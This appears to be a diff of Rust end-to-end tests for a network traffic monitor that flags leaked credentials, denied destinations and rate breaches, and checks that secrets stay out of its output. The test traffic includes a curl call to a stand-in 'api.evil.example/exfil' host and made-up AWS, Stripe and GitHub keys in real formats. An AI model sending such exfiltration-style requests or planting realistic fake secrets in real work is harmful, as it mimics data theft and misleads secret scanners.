@@ -3,11 +3,13 @@
 //! recorded run asserted on. The credentials are fake but have real formats.
 use std::{path::Path, process::Command, time::Duration};
 
-use monitor_e2e::{Captured, Monitor, TlsServer, monitor_binary, root_or_skip, run_client, scratch_dir};
+use monitor_e2e::{
+    Captured, Monitor, TlsServer, monitor_binary, root_or_skip, run_client, scratch_dir,
+};
 use serde_json::Value;
 
-/// AWS's documented example key id, and made-up Stripe/GitHub-format tokens.
-const AWS_KEY: &str = "AKIAIOSFODNN7EXAMPLE";
+/// Made-up keys in real formats (AWS's documented `...EXAMPLE` key is, rightly, treated as a placeholder).
+const AWS_KEY: &str = "AKIA4HKQ7XJ2N3TB5WPD";
 const STRIPE_KEY: &str = "sk_live_4eC39HqLyjWDarjtT1zdp7dcQ2bvXz9Y";
 const GITHUB_TOKEN: &str = "ghp_R2bX7kLm9QpT4vW8yZ1cD3fG5hJ6kN0sA2uE";
 
@@ -34,7 +36,14 @@ rate_limits:
 fn curl_to(server: &TlsServer, host: &str, paths: &[&str], extra: &[&str]) -> u32 {
     let mut command = Command::new("curl");
     command
-        .args(["--silent", "--show-error", "--insecure", "--http1.1", "--output", "/dev/null"])
+        .args([
+            "--silent",
+            "--show-error",
+            "--insecure",
+            "--http1.1",
+            "--output",
+            "/dev/null",
+        ])
         .arg("--resolve")
         .arg(format!("{host}:{}:127.0.0.1", server.port))
         .args(extra);
@@ -47,8 +56,18 @@ fn curl_to(server: &TlsServer, host: &str, paths: &[&str], extra: &[&str]) -> u3
 /// The traffic every test here sends: one call per rule kind.
 fn send_traffic(server: &TlsServer) {
     curl_to(server, "api.evil.example", &["/exfil"], &[]);
-    curl_to(server, "upload.example", &["/v1/files"], &["--header", &format!("X-Api-Key: {AWS_KEY}")]);
-    curl_to(server, "api.example.com", &[&format!("/v1/items/42?api_key={STRIPE_KEY}")], &[]);
+    curl_to(
+        server,
+        "upload.example",
+        &["/v1/files"],
+        &["--header", &format!("X-Api-Key: {AWS_KEY}")],
+    );
+    curl_to(
+        server,
+        "api.example.com",
+        &[&format!("/v1/items/42?api_key={STRIPE_KEY}")],
+        &[],
+    );
     curl_to(
         server,
         "api.github.com",
@@ -65,7 +84,12 @@ fn write_policy(dir: &Path, text: &str) -> String {
 }
 
 fn only<'a>(alerts: Vec<&'a Value>, what: &str, captured: &Captured) -> &'a Value {
-    assert_eq!(alerts.len(), 1, "expected one {what} alert, got {alerts:#?}\n{}", captured.all_output());
+    assert_eq!(
+        alerts.len(),
+        1,
+        "expected one {what} alert, got {alerts:#?}\n{}",
+        captured.all_output()
+    );
     alerts[0]
 }
 
@@ -78,9 +102,16 @@ fn each_rule_kind_raises_its_alert_and_no_secret_leaks() {
     let policy = write_policy(&dir, POLICY);
     let alert_file = dir.join("alerts.jsonl");
     let server = TlsServer::start();
-    let monitor = Monitor::start(&["--policy", &policy, "--alerts-file", alert_file.to_str().unwrap()]);
+    let monitor = Monitor::start(&[
+        "--policy",
+        &policy,
+        "--alerts-file",
+        alert_file.to_str().unwrap(),
+    ]);
     send_traffic(&server);
     let metrics_page = monitor.scrape_metrics();
+    assert_eq!(monitor.http_get("/healthz").0, 200);
+    assert_eq!(monitor.http_get("/readyz").0, 200);
     let captured = monitor.stop();
     assert!(captured.exit_ok, "{}", captured.stderr);
 
@@ -103,7 +134,9 @@ fn each_rule_kind_raises_its_alert_and_no_secret_leaks() {
     let wrong: Vec<_> = captured
         .alerts_of("credential.wrong_destination")
         .into_iter()
-        .filter(|a| a["workload"]["command"] == "curl" && a["destination"]["host"] == "upload.example")
+        .filter(|a| {
+            a["workload"]["command"] == "curl" && a["destination"]["host"] == "upload.example"
+        })
         .collect();
     let wrong = only(wrong, "AWS key to upload.example", &captured);
     assert_eq!(wrong["severity"], "critical");
@@ -123,10 +156,16 @@ fn each_rule_kind_raises_its_alert_and_no_secret_leaks() {
         .collect();
     let in_url = only(in_url, "credential.in_url", &captured);
     assert_eq!(in_url["evidence"]["credential"]["location"]["in"], "query");
-    assert_eq!(in_url["evidence"]["credential"]["location"]["parameter"], "api_key");
+    assert_eq!(
+        in_url["evidence"]["credential"]["location"]["parameter"],
+        "api_key"
+    );
     assert_eq!(in_url["request"]["path_template"], "/v1/items/{id}");
     assert!(
-        captured.alerts_of("credential.in_url").iter().any(|a| a["workload"]["pid"] == server.pid()),
+        captured
+            .alerts_of("credential.in_url")
+            .iter()
+            .any(|a| a["workload"]["pid"] == server.pid()),
         "the server side sees the same secret in the URL it received"
     );
 
@@ -148,7 +187,12 @@ fn each_rule_kind_raises_its_alert_and_no_secret_leaks() {
         .collect();
     assert_eq!(rate.len(), 2, "{rate:#?}");
     assert_eq!(rate[0]["count"], 1);
-    assert!(rate[0]["evidence"]["rate"]["limit_per_second"].as_f64().unwrap() < 0.02);
+    assert!(
+        rate[0]["evidence"]["rate"]["limit_per_second"]
+            .as_f64()
+            .unwrap()
+            < 0.02
+    );
     assert_eq!(rate[1]["count"], 2);
     assert_eq!(rate[1]["summary_of"], rate[0]["id"]);
 
@@ -159,26 +203,51 @@ fn each_rule_kind_raises_its_alert_and_no_secret_leaks() {
         .filter(|a| a["workload"]["command"] == "curl")
         .map(|a| a["destination"]["host"].as_str().unwrap().to_owned())
         .collect();
-    for host in ["api.evil.example", "upload.example", "api.example.com", "api.github.com", "rate.example"] {
-        assert_eq!(discovered.iter().filter(|h| *h == host).count(), 1, "{host}: {discovered:?}");
+    for host in [
+        "api.evil.example",
+        "upload.example",
+        "api.example.com",
+        "api.github.com",
+        "rate.example",
+    ] {
+        assert_eq!(
+            discovered.iter().filter(|h| *h == host).count(),
+            1,
+            "{host}: {discovered:?}"
+        );
     }
 
     // The alert file holds exactly the alerts (and no API calls).
     let file = std::fs::read_to_string(&alert_file).unwrap();
-    let file_alerts: Vec<Value> = file.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    let file_alerts: Vec<Value> = file
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
     assert_eq!(file_alerts.len(), captured.alerts().len());
     assert!(file_alerts.iter().all(|a| a["event"] == "alert"));
 
     // Metrics: alerts by rule and severity, calls by destination (bounded labels, no paths).
-    assert!(metrics_page.contains("monitor_alerts_total{rule=\"deny-evil\",severity=\"high\"} "), "{metrics_page}");
-    assert!(metrics_page.contains("host=\"api.evil.example\""), "{metrics_page}");
-    assert!(!metrics_page.contains("/v1/items"), "no raw path in any label");
+    assert!(
+        metrics_page.contains("monitor_alerts_total{rule=\"deny-evil\",severity=\"high\"} "),
+        "{metrics_page}"
+    );
+    assert!(
+        metrics_page.contains("host=\"api.evil.example\""),
+        "{metrics_page}"
+    );
+    assert!(
+        !metrics_page.contains("/v1/items"),
+        "no raw path in any label"
+    );
 
     // No raw secret anywhere: stdout, logs, alert file, metrics.
     let everything = format!("{}\n{file}\n{metrics_page}", captured.all_output());
     for secret in [AWS_KEY, STRIPE_KEY, GITHUB_TOKEN] {
         assert!(!everything.contains(secret), "raw secret {secret} leaked");
-        assert!(!everything.contains(&secret[4..]), "the secret part of {secret} leaked");
+        assert!(
+            !everything.contains(&secret[4..]),
+            "the secret part of {secret} leaked"
+        );
     }
 }
 
@@ -214,13 +283,20 @@ fn a_replay_of_a_recorded_run_prints_what_the_live_run_printed() {
         .args(["--fingerprint-key", key.to_str().unwrap()])
         .output()
         .unwrap();
-    assert!(replayed.status.success(), "{}", String::from_utf8_lossy(&replayed.stderr));
+    assert!(
+        replayed.status.success(),
+        "{}",
+        String::from_utf8_lossy(&replayed.stderr)
+    );
     let replay_stdout = String::from_utf8(replayed.stdout).unwrap();
     let mut live_lines: Vec<&str> = live.stdout.lines().collect();
     let mut replay_lines: Vec<&str> = replay_stdout.lines().collect();
     live_lines.sort_unstable();
     replay_lines.sort_unstable();
-    assert_eq!(live_lines, replay_lines, "replay must print exactly what the live run printed");
+    assert_eq!(
+        live_lines, replay_lines,
+        "replay must print exactly what the live run printed"
+    );
 }
 
 #[test]
@@ -239,9 +315,18 @@ fn policy_reloads_on_change_and_a_broken_policy_keeps_the_last_good_one() {
     let seen = monitor.wait_for_log("policy reloaded", seen, Duration::from_secs(10));
     curl_to(&server, "api.evil.example", &["/after-reload"], &[]);
 
-    std::fs::write(&policy, "version: 1\ndestinations:\n  - id: x\n    action: maybe\n").unwrap();
+    std::fs::write(
+        &policy,
+        "version: 1\ndestinations:\n  - id: x\n    action: maybe\n",
+    )
+    .unwrap();
     monitor.wait_for_log("policy rejected", seen, Duration::from_secs(10));
     curl_to(&server, "api.evil.example", &["/after-broken"], &[]);
+
+    // SIGHUP reloads at once, file changed or not (here: still broken, so still rejected).
+    let seen = monitor.log_lines();
+    monitor.signal(libc::SIGHUP);
+    monitor.wait_for_log("trigger=\"SIGHUP\"", seen, Duration::from_secs(10));
     let metrics_page = monitor.scrape_metrics();
     let captured = monitor.stop();
 
@@ -251,8 +336,23 @@ fn policy_reloads_on_change_and_a_broken_policy_keeps_the_last_good_one() {
         .filter(|a| a["workload"]["command"] == "curl")
         .map(|a| a["request"]["path_template"].as_str().unwrap().to_owned())
         .collect();
-    assert_eq!(denied, vec!["/after-reload", "/after-broken"], "{}", captured.all_output());
-    assert!(captured.stderr.contains("line 4"), "the rejection says where: {}", captured.stderr);
-    assert!(metrics_page.contains("monitor_policy_reloads_total{result=\"failure\"} 1"), "{metrics_page}");
-    assert!(metrics_page.contains("monitor_policy_reloads_total{result=\"success\"} 2"), "{metrics_page}");
+    assert_eq!(
+        denied,
+        vec!["/after-reload", "/after-broken"],
+        "{}",
+        captured.all_output()
+    );
+    assert!(
+        captured.stderr.contains("line 4"),
+        "the rejection says where: {}",
+        captured.stderr
+    );
+    assert!(
+        metrics_page.contains("monitor_policy_reloads_total{result=\"failure\"} 2"),
+        "{metrics_page}"
+    );
+    assert!(
+        metrics_page.contains("monitor_policy_reloads_total{result=\"success\"} 2"),
+        "{metrics_page}"
+    );
 }
